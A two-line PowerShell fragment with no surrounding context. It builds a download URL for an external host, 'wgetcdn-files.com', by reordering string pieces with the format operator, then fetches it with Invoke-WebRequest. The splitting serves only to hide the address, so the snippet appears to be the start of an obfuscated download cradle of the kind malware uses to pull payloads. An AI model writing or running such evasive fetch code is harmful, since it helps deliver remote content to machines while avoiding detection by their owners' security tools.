$u = "{2}{0}{1}" -f "cdn-files.com","/format","https://wget"
iwr $u
